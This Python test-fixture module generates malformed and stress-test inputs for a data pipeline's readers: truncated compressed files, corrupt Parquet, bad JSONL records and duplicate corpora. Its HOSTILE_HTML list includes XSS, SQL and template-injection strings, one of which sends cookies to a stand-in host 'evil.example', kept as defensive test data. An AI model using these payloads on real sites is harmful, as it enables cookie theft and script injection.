"""Generators of input files, good and hostile, written into a test's tmp folder.

Nothing binary is committed: every fixture is built here from a few lines of Python, deterministically
(gzip headers carry no timestamp, "random" bytes come from a seeded generator), so a failing test can be
reproduced by calling the same function.
"""
from __future__ import annotations

import gzip
import json
import random
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import zstandard

Line = dict | str | bytes


def _line_bytes(line: Line) -> bytes:
    """A dict is dumped as JSON, a str is encoded as UTF-8, bytes are written as they are."""
    if isinstance(line, dict):
        return json.dumps(line, ensure_ascii=False).encode("utf-8")
    if isinstance(line, str):
        return line.encode("utf-8")
    return line


def jsonl_bytes(lines: list[Line]) -> bytes:
    return b"".join(_line_bytes(line) + b"\n" for line in lines)


def write_jsonl(path: Path, lines: list[Line]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(jsonl_bytes(lines))
    return path


def write_jsonl_gz(path: Path, lines: list[Line]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(gzip.compress(jsonl_bytes(lines), mtime=0))
    return path


def write_jsonl_zst(path: Path, lines: list[Line], frames: int = 1) -> Path:
    """``frames`` > 1 splits the lines over several concatenated zstd frames (as ``cat a.zst b.zst`` does)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    cctx = zstandard.ZstdCompressor()
    step = max(1, -(-len(lines) // frames))
    path.write_bytes(b"".join(cctx.compress(jsonl_bytes(lines[i:i + step])) for i in range(0, len(lines), step)))
    return path


def write_parquet(path: Path, columns: dict[str, pa.Array | list], **options) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(columns), path, **options)
    return path


def invalid_utf8_strings(values: list[bytes | None]) -> pa.Array:
    """A ``string`` array holding exactly these bytes, valid UTF-8 or not (Arrow does not check a view)."""
    return pa.array(values, pa.binary()).view(pa.string())


# ----------------------------------------------------------------------------------------------------------
# Files that cannot be read as a whole


def some_lines(n: int = 200) -> list[dict]:
    return [{"id": f"d{i}", "text": f"document number {i} " * 5} for i in range(n)]


def truncated_gz(path: Path, lines: list[Line] | None = None) -> Path:
    """A gzip file cut in the middle of its deflate stream (a download that stopped)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    data = gzip.compress(jsonl_bytes(lines or some_lines()), mtime=0)
    path.write_bytes(data[: len(data) // 2])
    return path


def truncated_zst(path: Path, lines: list[Line] | None = None) -> Path:
    """A zstd file cut in the middle of its frame."""
    path.parent.mkdir(parents=True, exist_ok=True)
    data = zstandard.ZstdCompressor().compress(jsonl_bytes(lines or some_lines()))
    path.write_bytes(data[: len(data) // 2])
    return path


def random_bytes(path: Path, n: int = 256, seed: int = 7) -> Path:
    """Noise under a name that promises a format (e.g. ``x.jsonl.zst``)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(random.Random(seed).randbytes(n))
    return path


def empty_file(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"")
    return path


def parquet_footer_cut(path: Path) -> Path:
    """A Parquet file whose last 10 bytes (end of footer, footer length, ``PAR1`` magic) are missing."""
    write_parquet(path, {"text": ["a", "b", "c"]})
    data = path.read_bytes()
    path.write_bytes(data[:-10])
    return path


def parquet_corrupt_pages(path: Path) -> Path:
    """A Parquet file with a sound footer and garbage in its data pages (bit rot, a bad disk block)."""
    write_parquet(path, {"text": [f"document number {i} " * 20 for i in range(2000)]}, compression="none")
    data = bytearray(path.read_bytes())
    data[1000:20000] = b"\xab" * 19000
    path.write_bytes(bytes(data))
    return path


# ----------------------------------------------------------------------------------------------------------
# Records that cannot be used (each is one JSONL line)


def nested(depth: int) -> list | dict:
    """``depth`` levels of nesting, alternating lists and objects: [{"k": [{"k": ... []}]}]."""
    value: list | dict = []
    for level in range(depth - 1):
        value = {"k": value} if level % 2 == 0 else [value]
    return value


#: JSONL lines that try to break a reader, by name. Most are bad records; a few only look hostile and are
#: valid documents ("NUL escape", "paired surrogate escape", "lone surrogate in metadata", "100 levels of
#: metadata"). test_readers.py holds what the reader must make of each.
HOSTILE_LINES: dict[str, bytes] = {
    "not json": b"not json",
    "array": b"[1, 2]",
    "number": b"42",
    "text missing": b'{"id": "m"}',
    "text null": b'{"id": "n", "text": null}',
    "text int": b'{"id": "i", "text": 7}',
    "text list": b'{"id": "l", "text": ["x"]}',
    "latin-1 byte": b'{"id": "u", "text": "caf\xe9"}',
    "utf-8 encoded surrogate": b'{"id": "v", "text": "\xed\xa0\x80"}',
    "lone surrogate escape": b'{"id": "s", "text": "\\ud800"}',
    "lone surrogate in id": b'{"id": "\\udc00", "text": "ok"}',
    "lone surrogate in source": b'{"id": "w", "text": "ok", "source": "\\udfff"}',
    "raw NUL byte in a string": b'{"id": "r", "text": "a\x00b"}',
    "too deep": b'{"id": "x", "text": "t", "m": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "NUL escape": b'{"id": "z", "text": "a\\u0000b"}',
    "paired surrogate escape": b'{"id": "e", "text": "\\ud83d\\ude00"}',
    "lone surrogate in metadata": b'{"id": "q", "text": "ok", "note": "\\udc00"}',
    "100 levels of metadata": json.dumps({"id": "d", "text": "deep", "m": nested(100)}).encode(),
}


def write_hostile_jsonl(path: Path, names: list[str] | None = None) -> Path:
    """A good line ("first"), the hostile lines (all, or ``names``) in order, a good line ("last")."""
    lines = [HOSTILE_LINES[n] for n in (names or list(HOSTILE_LINES))]
    return write_jsonl(path, [{"id": "first", "text": "first"}, *lines, {"id": "last", "text": "last"}])


# ----------------------------------------------------------------------------------------------------------
# A small good corpus with work for the global step (fault-injection runs)

_WORDS = ("river stone market winter garden letter engine window silver mountain harbor teacher orange "
          "village morning thunder castle pencil bridge forest candle meadow planet violin shadow kitchen "
          "lantern island rabbit mirror").split()


def _sentence(rng: random.Random, n: int) -> str:
    words = [rng.choice(_WORDS) for _ in range(n)]
    return " ".join(words).capitalize() + "."


def dup_corpus(folder: Path, files: int = 4, docs_per_file: int = 300, seed: int = 11) -> list[Path]:
    """``files`` shards (Parquet, JSONL, .jsonl.gz, .jsonl.zst in turn) of generated prose, with exact
    duplicates (also differing only in case and spacing), near-duplicates (one word changed) and repeated ids
    across files, so that every part of the global step has work. Deterministic for a seed."""
    rng = random.Random(seed)
    originals = [" ".join(_sentence(rng, rng.randint(8, 16)) for _ in range(rng.randint(4, 12)))
                 for _ in range(files * docs_per_file)]
    paths = []
    for f in range(files):
        rows = []
        for i in range(docs_per_file):
            k = f * docs_per_file + i
            text = originals[k]
            roll = rng.random()
            if roll < 0.08 and k > 10:  # exact duplicate of an earlier document, maybe in another file
                text = originals[rng.randrange(k)]
            elif roll < 0.12 and k > 10:  # same text, other case and spacing
                text = originals[rng.randrange(k)].upper().replace(" ", "  ")
            elif roll < 0.18 and k > 10:  # near-duplicate: one word changed
                words = originals[rng.randrange(k)].split(" ")
                words[rng.randrange(len(words))] = "zeppelin"
                text = " ".join(words)
            doc_id = f"doc-{k:05d}" if rng.random() > 0.02 else f"doc-{rng.randrange(max(k, 1)):05d}"
            rows.append({"id": doc_id, "text": text, "source": "web" if k % 3 else "books"})
        name = ["p.parquet", "j.jsonl", "g.jsonl.gz", "z.jsonl.zst"][f % 4]
        path = folder / f"shard-{f:02d}-{name}"
        if name.endswith(".parquet"):
            write_parquet(path, {key: [r[key] for r in rows] for key in ("id", "text", "source")})
        elif name.endswith(".gz"):
            write_jsonl_gz(path, rows)
        elif name.endswith(".zst"):
            write_jsonl_zst(path, rows)
        else:
            write_jsonl(path, rows)
        paths.append(path)
    return paths


# ----------------------------------------------------------------------------------------------------------
# Documents that are valid but try to break what comes after the reader

#: Markup that would run if a report or viewer pasted the text into HTML unescaped. The text is data: it must
#: come out byte for byte as it went in (normalize aside), wherever it ends.
HOSTILE_HTML = [
    "<script>alert('x')</script> Hello there, this is a page with a script tag in its body text.",
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"> An image tag that steals cookies.',
    "</td></tr></table><iframe src=javascript:alert(1)></iframe> A row that closes a table early.",
    "&lt;b&gt; escaped &amp; double &amp;amp; escaped entities, a ]]> CDATA end and a <!-- comment",
    '"><svg/onload=alert(1)> {{7*7}} ${7*7} \' OR 1=1; -- the usual injection strings in one line.',
]


def big_document(path: Path, megabytes: int = 20, seed: int = 5) -> Path:
    """One JSONL record whose text is ``megabytes`` MB of generated prose (paragraphs of sentences)."""
    rng = random.Random(seed)
    sentences = [_sentence(rng, rng.randint(6, 18)) for _ in range(2000)]
    parts, size = [], 0
    while size < megabytes << 20:
        para = " ".join(rng.choice(sentences) for _ in range(6))
        parts.append(para)
        size += len(para) + 2
    return write_jsonl(path, [{"id": "big", "text": "\n\n".join(parts)}])


def long_line_document(path: Path, megabytes: int = 2, seed: int = 6) -> Path:
    """One JSONL record whose text is a ``megabytes`` MB line of letters and digits without a space."""
    rng = random.Random(seed)
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    text = "".join(rng.choice(alphabet) for _ in range(megabytes << 20))
    return write_jsonl(path, [{"id": "longline", "text": text}])


def empty_gz(path: Path) -> Path:
    """A valid gzip file of zero bytes of content."""
    return write_jsonl_gz(path, [])


def empty_parquet(path: Path) -> Path:
    """A valid Parquet file with the usual columns and no row."""
    return write_parquet(path, {"id": pa.array([], pa.string()), "text": pa.array([], pa.string())})
